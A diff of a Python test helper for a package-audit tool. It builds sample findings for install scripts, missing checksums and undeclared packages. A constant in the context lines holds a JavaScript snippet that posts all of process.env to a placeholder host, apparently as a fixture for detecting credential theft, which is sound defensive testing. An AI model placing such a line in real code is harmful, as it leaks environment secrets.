@@ -5,6 +5,8 @@ from __future__ import annotations
 from dataclasses import replace
 from typing import Any
 
+from support.subjects import declares, package, use
+
 from audit.model.capability import Authority
 from audit.model.contents import Source
 from audit.model.facts import Coverage
@@ -12,7 +14,6 @@ from audit.model.finding import Confidence, Finding, FindingPackage, LockfilePla
 from audit.model.package import AuditedPackage, Evidence
 from audit.model.report import Report, ReportedPackage
 from audit.model.summary import summarise
-from support.subjects import declares, package, use
 
 COLLECTOR = 'https.request({ host: "collect.invalid" }).end(JSON.stringify(process.env))'
 
@@ -66,11 +67,11 @@ def finding(**fields: Any) -> Finding:
 
 def findings() -> tuple[Finding, ...]:
     """Return one finding to act on, lower ones, and a waived one."""
-    low = {"severity": Severity.LOW, "evidence": (), "capability": None}
+    low: dict[str, Any] = {"severity": Severity.LOW, "evidence": (), "capability": None}
     return (
         finding(),
         finding(rule="install-script", severity=Severity.MODERATE, suppressed=("reviewed", "2027-06-01")),
-        finding(rule="missing-integrity", severity=Severity.MODERATE, message="the lockfile has no checksum for it", evidence=()),
+        finding(rule="missing-integrity", severity=Severity.MODERATE, message="it has no checksum", evidence=()),
         finding(rule="unanalysed-code", message="its contents could not be had", **low),
         finding(rule="undeclared-package", message="3 packages have no declaration", package=None, path=(), **low),
     )  # fmt: skip
